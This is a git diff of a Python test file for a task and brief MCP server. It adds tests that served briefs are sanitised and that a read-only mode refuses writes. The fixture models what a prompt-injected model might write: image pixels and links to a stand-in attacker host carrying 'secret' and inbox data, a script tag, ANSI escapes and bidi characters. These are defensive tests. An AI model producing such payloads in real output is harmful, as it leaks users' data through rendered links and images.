@@ -41,11 +41,13 @@ def dump(db: Path) -> dict[str, list[Any]]:
     return {t: [tuple(r) for r in conn.rows(f"SELECT * FROM {t} ORDER BY 1")] for t in TABLES}
 
 
-def session(db: Path, calls: list[tuple[str, dict[str, Any]]]) -> tuple[list[Any], list[Any]]:
-    """List the tools and make `calls` through a fresh `dayflow mcp serve`."""
+def session(
+    db: Path, calls: list[tuple[str, dict[str, Any]]], *flags: str
+) -> tuple[list[Any], list[Any]]:
+    """List the tools and make `calls` through a fresh `dayflow mcp serve FLAGS`."""
     params = StdioServerParameters(
         command=sys.executable,
-        args=["-m", "dayflow", "mcp", "serve"],
+        args=["-m", "dayflow", "mcp", "serve", *flags],
         env={"DAYFLOW_DB": str(db), "DAYFLOW_TZ": "UTC"},
     )
 
@@ -123,3 +125,73 @@ def test_marking_a_task_done_twice_is_one_change_and_starts_no_run(
     assert missing[0].is_error and "no task matches 'nosuchtask'" in missing[0].content[0].text
     _, bad_day = session(copy, [("get_brief", {"day": "tomorrow"})])
     assert bad_day[0].is_error and "day must be YYYY-MM-DD" in bad_day[0].content[0].text
+
+
+READ_URL = "https://review.acme.example/pr/42"
+HOSTILE = (
+    "# Daily brief\n"
+    f"- [the review]({READ_URL}) and [win a prize](https://evil.example/?q=inbox)\n"
+    "- ![pixel](https://evil.example/p.png?d=secret) <img src=https://evil.example/i.png>\n"
+    "- <script>alert(1)</script> \x1b[31mred\u202e https://evil.example/bare\n"
+)
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
+    """A finished run whose inbox showed READ_URL and whose stored brief is HOSTILE (what a
+    prompt-injected model could write), with a task titled with an ESC and a bidi mark."""
+    tmp = tmp_path_factory.mktemp("serve-hostile")
+    doc = json.loads((Path(__file__).resolve().parent.parent / "fixtures/inbox.json").read_text())
+    first = doc["messages"][0]
+    first["snippet"] = f"Review it at {READ_URL} please. {first['snippet']}"
+    first["body"] = f"Review it at {READ_URL} please.\n\n{first['body']}"
+    inbox = tmp / "inbox.json"
+    inbox.write_text(json.dumps(doc))
+    path = tmp / "dayflow.db"
+    done = subprocess.run(
+        [sys.executable, "-m", "dayflow", "brief", "--date", DATE, "--inbox", str(inbox)],
+        env=subprocess_env(path), capture_output=True, text=True, timeout=120,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    conn = Db(path)
+    run_id = conn.one("SELECT id FROM runs")[0]
+    conn.run("UPDATE runs SET final_text = ?", HOSTILE)
+    conn.run("UPDATE tasks SET title = ?", "Pay \x1b[2Jnow\u202e")
+    return path, run_id
+
+
+def test_served_briefs_are_inert_as_a_file_sinks_and_task_titles_escaped(
+    hostile_db: tuple[Path, str],
+) -> None:
+    """get_brief and get_run return the brief as `--deliver file:` writes it: no image, no
+    HTML, no link the run did not read, control characters as escapes."""
+    db, run_id = hostile_db
+    _, results = session(
+        db, [("get_brief", {"day": DATE}), ("get_run", {"run_id": run_id}), ("list_open_tasks", {})]
+    )
+    brief, run, tasks = (content(r) for r in results)
+    for text in (brief["brief"], run["brief"]):
+        assert f"[the review]({READ_URL})" in text  # a link the inbox showed is kept
+        assert "evil.example" not in text and "![" not in text and "<img" not in text
+        assert "<script>" not in text and "&lt;script>" in text
+        assert "\x1b" not in text and "\u202e" not in text and "\\u001b[31mred" in text
+    titles = [t["title"] for t in tasks["tasks"]]
+    assert titles and all(t == "Pay \\u001b[2Jnow\\u202e" for t in titles)
+
+
+def test_read_only_serve_offers_no_write_and_refuses_a_call_to_one(
+    db: Path, tmp_path: Path
+) -> None:
+    copy = tmp_path / "copy.db"
+    copy.write_bytes(db.read_bytes())
+    before = dump(copy)
+    task_id = before["tasks"][0][0]
+    tools, results = session(
+        copy, [("mark_task_done", {"task_id": task_id}), ("list_open_tasks", {})], "--read-only"
+    )
+    assert {t.name for t in tools} == {"get_brief", "list_open_tasks", "list_runs", "get_run"}
+    assert all(t.annotations.read_only_hint is True for t in tools)
+    refused, listed = results
+    assert refused.is_error and "mark_task_done" in refused.content[0].text
+    assert task_id in [t["id"] for t in content(listed)["tasks"]]
+    assert dump(copy) == before  # nothing changed
